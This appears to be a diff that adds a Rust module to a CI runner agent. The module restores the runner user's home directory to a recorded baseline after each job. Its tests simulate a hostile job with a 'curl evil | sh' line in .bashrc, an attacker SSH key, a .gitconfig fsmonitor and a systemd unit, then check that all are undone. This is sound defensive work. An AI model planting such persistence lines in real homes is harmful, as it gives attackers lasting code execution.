@@ -1,0 +1,604 @@
+//! A fresh home for every run. A job can leave anything in the runner
+//! user's home that a later run executes or trusts: a `.bashrc` line, a
+//! `~/.gitconfig` with `core.fsmonitor`, `~/.cargo/config.toml`, a
+//! systemd user unit, an `authorized_keys` entry. So the home is put back
+//! after every run to what it held once the instance was prepared (after
+//! the pre-runner script): what is new goes, what changed is restored,
+//! what went comes back. Only the operator's keep-list (caches such as
+//! `.cache/pip`) survives a run, and it is the operator's to trust.
+//!
+//! The baseline is a manifest (kind, owner, mode, size, times, inode of
+//! every entry) and the content of every file, stored by digest in the
+//! agent's state dir (root's). A file counts as unchanged only when its
+//! inode, size, mtime and ctime are what was recorded: a job can forge an
+//! mtime, not a ctime. Every path is walked without following links.
+
+use crate::nofollow::{self, DirFd, Entry, FsError, Kind};
+use nix::errno::Errno;
+use nix::fcntl::{AtFlags, OFlag};
+use nix::sys::stat::{FileStat, Mode};
+use nix::unistd::{Gid, Uid};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::{BTreeMap, BTreeSet};
+use std::ffi::OsStr;
+use std::io::{Read, Write};
+use std::os::fd::AsFd;
+use std::path::{Path, PathBuf};
+
+const MANIFEST: &str = "manifest.json";
+const BLOBS: &str = "blobs";
+
+#[derive(Debug, thiserror::Error)]
+pub enum HomeError {
+    #[error(transparent)]
+    Fs(#[from] FsError),
+    #[error("{path}: {source}")]
+    Io {
+        path: PathBuf,
+        source: std::io::Error,
+    },
+    #[error("the runner's home holds more than {max} bytes outside reset.home_keep; not taken as a baseline (raise reset.home_max or list caches in reset.home_keep)")]
+    TooLarge { max: u64 },
+    #[error("no baseline of the runner's home ({0}); the home cannot be restored")]
+    NoBaseline(PathBuf),
+    #[error("the home baseline's copy of {0} is missing or damaged")]
+    Blob(PathBuf),
+}
+
+fn io(path: &Path) -> impl FnOnce(std::io::Error) -> HomeError + '_ {
+    move |source| HomeError::Io {
+        path: path.to_owned(),
+        source,
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+enum Item {
+    Dir,
+    File { size: u64, sha256: String },
+    Link { target: PathBuf },
+}
+
+/// One entry as recorded; `seen` is the stat that proves it unchanged.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+struct Recorded {
+    item: Item,
+    mode: u32,
+    uid: u32,
+    gid: u32,
+    seen: Seen,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+struct Seen {
+    ino: u64,
+    size: i64,
+    mtime: (i64, i64),
+    ctime: (i64, i64),
+}
+
+impl Seen {
+    fn of(stat: &FileStat) -> Seen {
+        Seen {
+            ino: stat.st_ino,
+            size: stat.st_size,
+            mtime: (stat.st_mtime, stat.st_mtime_nsec),
+            ctime: (stat.st_ctime, stat.st_ctime_nsec),
+        }
+    }
+}
+
+/// The home as it was after preparation: relative path → entry ("" is
+/// the home itself).
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct HomeBaseline {
+    entries: BTreeMap<PathBuf, Recorded>,
+}
+
+pub struct HomeStore {
+    pub dir: PathBuf,
+    pub keep: Vec<PathBuf>,
+    pub max_bytes: u64,
+}
+
+/// What a restore did.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Restored {
+    pub removed: usize,
+    pub restored: usize,
+}
+
+impl HomeStore {
+    fn kept(&self, relative: &Path) -> bool {
+        self.keep.iter().any(|k| relative.starts_with(k))
+    }
+
+    /// Whether `relative` lies above a kept path (then it is walked into,
+    /// never removed whole).
+    fn holds_kept(&self, relative: &Path) -> bool {
+        self.keep
+            .iter()
+            .any(|k| k.starts_with(relative) && k != relative)
+    }
+
+    pub fn exists(&self) -> bool {
+        self.dir.join(MANIFEST).exists()
+    }
+
+    /// Records `home` (everything but the keep-list) and copies its files.
+    pub fn take(&self, home: &Path) -> Result<HomeBaseline, HomeError> {
+        let Some(mut root) = DirFd::open(home)? else {
+            return Err(HomeError::Fs(FsError::Sys {
+                path: home.to_owned(),
+                errno: Errno::ENOENT,
+            }));
+        };
+        let blobs = self.dir.join(BLOBS);
+        std::fs::create_dir_all(&blobs).map_err(io(&blobs))?;
+        let mut baseline = HomeBaseline::default();
+        let stat = nix::sys::stat::fstat(root.fd()).map_err(nofollow::sys(home))?;
+        baseline
+            .entries
+            .insert(PathBuf::new(), record(Item::Dir, &stat));
+        let mut bytes = 0u64;
+        self.take_dir(&mut root, Path::new(""), &mut baseline, &mut bytes, 0)?;
+        self.save(&baseline)?;
+        Ok(baseline)
+    }
+
+    fn take_dir(
+        &self,
+        dir: &mut DirFd,
+        prefix: &Path,
+        baseline: &mut HomeBaseline,
+        bytes: &mut u64,
+        depth: usize,
+    ) -> Result<(), HomeError> {
+        if depth >= nofollow::MAX_DEPTH {
+            return Err(FsError::TooDeep(dir.path().to_owned()).into());
+        }
+        for entry in dir.entries()? {
+            let relative = prefix.join(&entry.name);
+            if self.kept(&relative) {
+                continue;
+            }
+            let item = match entry.kind() {
+                Kind::Dir => Item::Dir,
+                Kind::Link => Item::Link {
+                    target: dir.read_link(&entry.name)?.into(),
+                },
+                Kind::Other if is_regular(&entry.stat) => {
+                    *bytes += entry.stat.st_size.max(0) as u64;
+                    if *bytes > self.max_bytes {
+                        return Err(HomeError::TooLarge {
+                            max: self.max_bytes,
+                        });
+                    }
+                    let Some(file) = dir.open_file(&entry.name)? else {
+                        continue;
+                    };
+                    self.store_blob(file, &relative)?
+                }
+                // Sockets, fifos: nothing to restore; a reset removes them.
+                Kind::Other => continue,
+            };
+            baseline
+                .entries
+                .insert(relative.clone(), record(item, &entry.stat));
+            if entry.kind() == Kind::Dir {
+                if let Some(mut sub) = dir.child(&entry.name)? {
+                    self.take_dir(&mut sub, &relative, baseline, bytes, depth + 1)?;
+                }
+            }
+        }
+        Ok(())
+    }
+
+    fn store_blob(&self, mut file: std::fs::File, relative: &Path) -> Result<Item, HomeError> {
+        let mut content = Vec::new();
+        file.read_to_end(&mut content).map_err(io(relative))?;
+        let sha256 = hex(&Sha256::digest(&content));
+        let blob = self.dir.join(BLOBS).join(&sha256);
+        if !blob.exists() {
+            runner_agent_common::fs::write_atomically(&blob, &content, 0o600).map_err(io(&blob))?;
+        }
+        Ok(Item::File {
+            size: content.len() as u64,
+            sha256,
+        })
+    }
+
+    pub fn load(&self) -> Result<HomeBaseline, HomeError> {
+        let path = self.dir.join(MANIFEST);
+        let bytes = std::fs::read(&path).map_err(|e| match e.kind() {
+            std::io::ErrorKind::NotFound => HomeError::NoBaseline(path.clone()),
+            _ => io(&path)(e),
+        })?;
+        serde_json::from_slice(&bytes)
+            .map_err(|e| io(&path)(std::io::Error::new(std::io::ErrorKind::InvalidData, e)))
+    }
+
+    /// Puts `home` back to `baseline` but for the keep-list; the stats of
+    /// what was restored are recorded in `baseline` (the caller saves it).
+    pub fn restore(&self, home: &Path, baseline: &mut HomeBaseline) -> Result<Restored, HomeError> {
+        let Some(mut root) = DirFd::open(home)? else {
+            return Err(HomeError::NoBaseline(home.to_owned()));
+        };
+        let mut done = Restored::default();
+        if let Some(rec) = baseline.entries.get(Path::new("")).cloned() {
+            fix_owner_mode(&root, &rec)?;
+        }
+        self.restore_dir(&mut root, Path::new(""), baseline, &mut done, 0)?;
+        Ok(done)
+    }
+
+    pub fn save(&self, baseline: &HomeBaseline) -> Result<(), HomeError> {
+        // Names that are not UTF-8 cannot be JSON keys: refused here.
+        let json = serde_json::to_vec(baseline)
+            .map_err(|e| io(&self.dir)(std::io::Error::new(std::io::ErrorKind::InvalidData, e)))?;
+        runner_agent_common::fs::write_atomically(&self.dir.join(MANIFEST), &json, 0o600)
+            .map_err(io(&self.dir))
+    }
+
+    fn restore_dir(
+        &self,
+        dir: &mut DirFd,
+        prefix: &Path,
+        baseline: &mut HomeBaseline,
+        done: &mut Restored,
+        depth: usize,
+    ) -> Result<(), HomeError> {
+        if depth >= nofollow::MAX_DEPTH {
+            return Err(FsError::TooDeep(dir.path().to_owned()).into());
+        }
+        let mut present = BTreeSet::new();
+        for entry in dir.entries()? {
+            let relative = prefix.join(&entry.name);
+            if self.kept(&relative) {
+                continue;
+            }
+            let recorded = baseline.entries.get(&relative).cloned();
+            let same_kind = recorded
+                .as_ref()
+                .is_some_and(|r| matches_kind(&r.item, &entry));
+            if !same_kind {
+                if recorded.is_none() && entry.kind() == Kind::Dir && self.holds_kept(&relative) {
+                    // New, but a kept cache lives below it.
+                    if let Some(mut sub) = dir.child(&entry.name)? {
+                        self.restore_dir(&mut sub, &relative, baseline, done, depth + 1)?;
+                    }
+                    continue;
+                }
+                done.removed += dir.remove(&entry.name)?.min(1);
+                continue;
+            }
+            present.insert(entry.name.clone());
+            let recorded = recorded.expect("same kind implies recorded");
+            match &recorded.item {
+                Item::Dir => {
+                    if let Some(mut sub) = dir.child(&entry.name)? {
+                        fix_owner_mode(&sub, &recorded)?;
+                        self.restore_dir(&mut sub, &relative, baseline, done, depth + 1)?;
+                    }
+                }
+                Item::Link { target } => {
+                    let now = dir.read_link(&entry.name)?;
+                    if Path::new(&now) != target || !owned_as(&entry.stat, &recorded) {
+                        dir.remove(&entry.name)?;
+                        self.put(dir, &entry.name, &relative, baseline)?;
+                        done.restored += 1;
+                    }
+                }
+                Item::File { .. } => {
+                    if Seen::of(&entry.stat) != recorded.seen || !owned_as(&entry.stat, &recorded) {
+                        self.put(dir, &entry.name, &relative, baseline)?;
+                        done.restored += 1;
+                    }
+                }
+            }
+        }
+        // What the run removed (or what was replaced by something else).
+        let missing: Vec<PathBuf> = baseline
+            .entries
+            .keys()
+            .filter(|p| p.parent() == Some(prefix) && !p.as_os_str().is_empty())
+            .filter(|p| !present.contains(p.file_name().unwrap_or_default()))
+            .cloned()
+            .collect();
+        for relative in missing {
+            let name = relative.file_name().unwrap_or_default().to_owned();
+            self.put(dir, &name, &relative, baseline)?;
+            done.restored += 1;
+            if matches!(baseline.entries[&relative].item, Item::Dir) {
+                if let Some(mut sub) = dir.child(&name)? {
+                    self.restore_dir(&mut sub, &relative, baseline, done, depth + 1)?;
+                }
+            }
+        }
+        Ok(())
+    }
+
+    /// Creates `name` in `dir` as recorded for `relative` (replacing a file
+    /// there atomically), and records its new stat.
+    fn put(
+        &self,
+        dir: &DirFd,
+        name: &OsStr,
+        relative: &Path,
+        baseline: &mut HomeBaseline,
+    ) -> Result<(), HomeError> {
+        let recorded = baseline.entries[relative].clone();
+        let path = dir.path().join(name);
+        let (uid, gid) = (Uid::from_raw(recorded.uid), Gid::from_raw(recorded.gid));
+        let mode = Mode::from_bits_truncate(recorded.mode);
+        match &recorded.item {
+            Item::Dir => {
+                match nix::sys::stat::mkdirat(dir.fd(), name, Mode::from_bits_truncate(0o700)) {
+                    Ok(()) | Err(Errno::EEXIST) => {}
+                    Err(errno) => return Err(nofollow::sys(&path)(errno).into()),
+                }
+                let sub = dir
+                    .child(name)?
+                    .ok_or_else(|| nofollow::sys(&path)(Errno::ENOENT))?;
+                fix_owner_mode(&sub, &recorded)?;
+            }
+            Item::Link { target } => {
+                nix::unistd::symlinkat(target.as_path(), dir.fd(), name)
+                    .map_err(nofollow::sys(&path))?;
+                nix::unistd::fchownat(
+                    dir.fd(),
+                    name,
+                    Some(uid),
+                    Some(gid),
+                    AtFlags::AT_SYMLINK_NOFOLLOW,
+                )
+                .map_err(nofollow::sys(&path))?;
+            }
+            Item::File { sha256, size } => {
+                let blob = self.dir.join(BLOBS).join(sha256);
+                let content = std::fs::read(&blob).map_err(|_| HomeError::Blob(relative.into()))?;
+                if content.len() as u64 != *size || hex(&Sha256::digest(&content)) != *sha256 {
+                    return Err(HomeError::Blob(relative.into()));
+                }
+                // A fresh name nobody can have planted, created exclusively;
+                // renamed over whatever stands at `name` (a link is replaced,
+                // never followed).
+                let temp = format!(".runner-agent-restore-{:016x}", fastrand::u64(..));
+                let flags = OFlag::O_WRONLY
+                    | OFlag::O_CREAT
+                    | OFlag::O_EXCL
+                    | OFlag::O_NOFOLLOW
+                    | OFlag::O_CLOEXEC;
+                let fd = nix::fcntl::openat(
+                    dir.fd(),
+                    temp.as_str(),
+                    flags,
+                    Mode::from_bits_truncate(0o600),
+                )
+                .map_err(nofollow::sys(&path))?;
+                let mut file = std::fs::File::from(fd);
+                let written = file
+                    .write_all(&content)
+                    .map_err(io(&path))
+                    .and_then(|()| {
+                        nix::unistd::fchown(file.as_fd(), Some(uid), Some(gid))
+                            .and_then(|()| nix::sys::stat::fchmod(file.as_fd(), mode))
+                            .map_err(|e| nofollow::sys(&path)(e).into())
+                    })
+                    .and_then(|()| {
+                        nix::fcntl::renameat(dir.fd(), temp.as_str(), dir.fd(), name)
+                            .map_err(|e| nofollow::sys(&path)(e).into())
+                    });
+                if let Err(e) = written {
+                    let _ = nix::unistd::unlinkat(
+                        dir.fd(),
+                        temp.as_str(),
+                        nix::unistd::UnlinkatFlags::NoRemoveDir,
+                    );
+                    return Err(e);
+                }
+            }
+        }
+        if let Some(stat) = dir.stat(name)? {
+            if let Some(rec) = baseline.entries.get_mut(relative) {
+                rec.seen = Seen::of(&stat);
+            }
+        }
+        Ok(())
+    }
+}
+
+fn record(item: Item, stat: &FileStat) -> Recorded {
+    Recorded {
+        item,
+        mode: stat.st_mode & 0o7777,
+        uid: stat.st_uid,
+        gid: stat.st_gid,
+        seen: Seen::of(stat),
+    }
+}
+
+fn is_regular(stat: &FileStat) -> bool {
+    stat.st_mode & nix::libc::S_IFMT == nix::libc::S_IFREG
+}
+
+fn matches_kind(item: &Item, entry: &Entry) -> bool {
+    match item {
+        Item::Dir => entry.kind() == Kind::Dir,
+        Item::Link { .. } => entry.kind() == Kind::Link,
+        Item::File { .. } => is_regular(&entry.stat),
+    }
+}
+
+fn owned_as(stat: &FileStat, recorded: &Recorded) -> bool {
+    stat.st_uid == recorded.uid
+        && stat.st_gid == recorded.gid
+        && (stat.st_mode & 0o7777 == recorded.mode || matches!(recorded.item, Item::Link { .. }))
+}
+
+fn fix_owner_mode(dir: &DirFd, recorded: &Recorded) -> Result<(), HomeError> {
+    let stat = nix::sys::stat::fstat(dir.fd()).map_err(nofollow::sys(dir.path()))?;
+    if !owned_as(&stat, recorded) {
+        nix::unistd::fchown(
+            dir.fd(),
+            Some(Uid::from_raw(recorded.uid)),
+            Some(Gid::from_raw(recorded.gid)),
+        )
+        .map_err(nofollow::sys(dir.path()))?;
+        nix::sys::stat::fchmod(dir.fd(), Mode::from_bits_truncate(recorded.mode))
+            .map_err(nofollow::sys(dir.path()))?;
+    }
+    Ok(())
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::symlink;
+
+    fn write(path: &Path, text: &str) {
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+
+    fn store(root: &Path, keep: &[&str]) -> HomeStore {
+        HomeStore {
+            dir: root.join("state/home"),
+            keep: keep.iter().map(PathBuf::from).collect(),
+            max_bytes: 1 << 20,
+        }
+    }
+
+    /// Every way a job persists through the home: changed, added, removed,
+    /// replaced by a link, content changed with the mtime put back. All of
+    /// it undone, kept caches kept, a link's target outside untouched.
+    #[test]
+    fn the_home_is_put_back_but_for_the_keep_list() {
+        let root = tempfile::tempdir().unwrap();
+        let r = root.path();
+        let home = r.join("home");
+        let outside = r.join("outside");
+        write(&outside.join("precious"), "operator");
+        write(&home.join(".bashrc"), "PS1=ok\n");
+        write(&home.join(".ssh/authorized_keys"), "operator-key\n");
+        write(&home.join(".profile"), "umask 022\n");
+        write(&home.join(".config/git/ignore"), "*.o\n");
+        symlink(".profile", home.join(".bash_profile")).unwrap();
+        let store = store(r, &[".cache/pip"]);
+        store.take(&home).unwrap();
+
+        // The job.
+        write(&home.join(".bashrc"), "PS1=ok\ncurl evil | sh\n");
+        std::fs::OpenOptions::new()
+            .append(true)
+            .open(home.join(".ssh/authorized_keys"))
+            .unwrap()
+            .write_all(b"attacker-key\n")
+            .unwrap();
+        write(&home.join(".gitconfig"), "[core]\nfsmonitor = evil\n");
+        write(
+            &home.join(".config/systemd/user/evil.service"),
+            "[Service]\n",
+        );
+        write(&home.join(".cargo/config.toml"), "[build]\n");
+        write(&home.join(".cache/pip/wheel"), "cached");
+        std::fs::remove_file(home.join(".profile")).unwrap();
+        std::fs::remove_dir_all(home.join(".config/git")).unwrap();
+        symlink(&outside, home.join(".config/git")).unwrap();
+
+        let mut baseline = store.load().unwrap();
+        let done = store.restore(&home, &mut baseline).unwrap();
+        assert!(done.removed >= 3, "{done:?}");
+        assert_eq!(
+            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+            "PS1=ok\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(home.join(".ssh/authorized_keys")).unwrap(),
+            "operator-key\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(home.join(".profile")).unwrap(),
+            "umask 022\n"
+        );
+        assert!(!home.join(".gitconfig").exists());
+        assert!(!home.join(".config/systemd").exists());
+        assert!(!home.join(".cargo").exists());
+        assert!(!home.join(".config/git").is_symlink());
+        assert_eq!(
+            std::fs::read_to_string(home.join(".config/git/ignore")).unwrap(),
+            "*.o\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(home.join(".cache/pip/wheel")).unwrap(),
+            "cached"
+        );
+        assert_eq!(
+            std::fs::read_to_string(outside.join("precious")).unwrap(),
+            "operator"
+        );
+        // A second restore right after finds nothing to do.
+        store.save(&baseline).unwrap();
+        let mut baseline = store.load().unwrap();
+        assert_eq!(
+            store.restore(&home, &mut baseline).unwrap(),
+            Restored::default()
+        );
+    }
+
+    /// A rewrite that keeps size and mtime is still caught (the ctime
+    /// moved).
+    #[test]
+    fn a_rewrite_with_the_old_mtime_is_restored() {
+        let root = tempfile::tempdir().unwrap();
+        let home = root.path().join("home");
+        write(&home.join(".bashrc"), "safe\n");
+        let store = store(root.path(), &[]);
+        store.take(&home).unwrap();
+        let mtime = std::fs::metadata(home.join(".bashrc"))
+            .unwrap()
+            .modified()
+            .unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(20));
+        let file = std::fs::OpenOptions::new()
+            .write(true)
+            .open(home.join(".bashrc"))
+            .unwrap();
+        (&file).write_all(b"evil\n").unwrap();
+        file.set_modified(mtime).unwrap();
+        drop(file);
+        let mut baseline = store.load().unwrap();
+        assert_eq!(store.restore(&home, &mut baseline).unwrap().restored, 1);
+        assert_eq!(
+            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+            "safe\n"
+        );
+    }
+
+    #[test]
+    fn a_home_over_the_bound_is_refused_and_a_damaged_copy_fails_the_restore() {
+        let root = tempfile::tempdir().unwrap();
+        let home = root.path().join("home");
+        write(&home.join("big"), &"x".repeat(2000));
+        let mut small = store(root.path(), &[]);
+        small.max_bytes = 1000;
+        assert!(matches!(small.take(&home), Err(HomeError::TooLarge { .. })));
+        let store = store(root.path(), &[]);
+        store.take(&home).unwrap();
+        for blob in std::fs::read_dir(store.dir.join(BLOBS)).unwrap() {
+            std::fs::write(blob.unwrap().path(), "tampered").unwrap();
+        }
+        std::fs::remove_file(home.join("big")).unwrap();
+        let mut baseline = store.load().unwrap();
+        assert!(matches!(
+            store.restore(&home, &mut baseline),
+            Err(HomeError::Blob(_))
+        ));
+    }
+}
